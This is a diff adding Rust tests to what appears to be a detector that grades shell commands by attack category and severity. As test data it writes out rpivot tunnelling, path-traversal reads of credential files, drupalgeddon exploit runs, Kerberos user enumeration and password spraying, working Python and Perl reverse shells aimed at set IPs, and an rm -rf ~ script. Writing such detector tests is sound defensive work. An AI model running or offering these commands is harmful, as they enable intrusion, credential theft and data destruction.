@@ -357,3 +357,96 @@ fn a_download_is_where_standard_output_goes() {
         a.findings
     );
 }
+
+/// Passed (ocs parts 0-2): rpivot's server and client (a SOCKS tunnel
+/// through a web server), `curl http://target/vuln.jsp?file=../../../../
+/// conf/tomcat-users.xml` (a path climbing out of the project is not the
+/// project's file), and drupalgeddon's exploits.
+#[test]
+fn ocs_tunnels_traversals_and_drupal_exploits() {
+    flagged_each(
+        &[
+            "python3 rpivot-server.py -l 127.0.0.1 -p 9001",
+            "python3 rpivot-client.py -s 10.0.0.1 -p 9001",
+        ],
+        Category::Exfiltration,
+        Severity::Medium,
+    );
+    flagged_each(
+        &[
+            "curl http://target/vuln.jsp?file=../../../../conf/tomcat-users.xml",
+            "cat ../../../../var/www/html/wp-config.php",
+        ],
+        Category::CredentialAccess,
+        Severity::Medium,
+    );
+    flagged_each(
+        &[
+            "python2 drupalgeddon.py -t http://drupal-qa.example.local -u hacker -p pwnd",
+            "python3 drupalgeddon2.py http://10.0.0.5/",
+            "ruby drupalgeddon2.rb http://10.0.0.5/",
+        ],
+        Category::RemoteCodeExec,
+        Severity::High,
+    );
+    for c in [
+        "cat ./wp-config.php",
+        "cat ../wp-config.php",
+        "vim conf/tomcat-users.xml",
+    ] {
+        clean(c);
+    }
+}
+
+/// Denied (ocs parts 0-1): `bloodhound-python -c All -u '' -p '' -d
+/// fluffy.htb -ns $t` and `kerbrute userenum -d corp.local --dc DC
+/// users.txt`, collection of the domain's objects and a check of which
+/// user names exist, were denied as credential capture. Asked now;
+/// kerbrute's password spraying and brute force stay denied.
+#[test]
+fn domain_collection_asks_and_spraying_denies() {
+    each(
+        &[
+            "bloodhound-python -c All -u '' -p '' -d fluffy.htb -ns 10.0.0.1",
+            "kerbrute userenum -d inlanefreight.local --dc 172.16.5.5 /opt/jsmith.txt",
+        ],
+        "CredentialAccess Medium",
+    );
+    each(
+        &[
+            "kerbrute passwordspray -d corp.local --dc 10.0.0.1 users.txt 'Winter2024!'",
+            "kerbrute bruteuser -d corp.local --dc 10.0.0.1 rockyou.txt admin",
+            "responder -I tun0",
+        ],
+        "CredentialAccess Critical",
+    );
+}
+
+/// Passed (ocs part 0): `echo 'import os,pty,socket;s=socket.socket();
+/// s.connect(("10.10.15.40",4444));[os.dup2(s.fileno(),f)for f in(0,1,2)];
+/// pty.spawn("/bin/bash")' > psutil.py`, a reverse shell planted as a
+/// Python module that a root-run script imports. A file written as a
+/// script of an interpreter is judged as that interpreter's code, as a
+/// shell script written is (a reverse shell is exfiltration there).
+#[test]
+fn interpreter_scripts_written_are_judged_as_code() {
+    flagged_each(
+        &[
+            "echo 'import os,pty,socket;s=socket.socket();s.connect((\"10.10.15.40\",4444));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn(\"/bin/bash\")' > psutil.py",
+            "echo 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in(4444,inet_aton(\"10.0.0.1\")));open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");' > x.pl",
+        ],
+        Category::Exfiltration,
+        Severity::Medium,
+    );
+    flagged_each(
+        &["printf '#!/usr/bin/env python3\\nimport os\\nos.system(\"rm -rf ~\")\\n' > tidy"],
+        Category::Destructive,
+        Severity::Medium,
+    );
+    for c in [
+        "echo 'print(\"hello\")' > hello.py",
+        "echo 'import os; print(os.getcwd())' > cwd.py",
+    ] {
+        clean(c);
+    }
+}
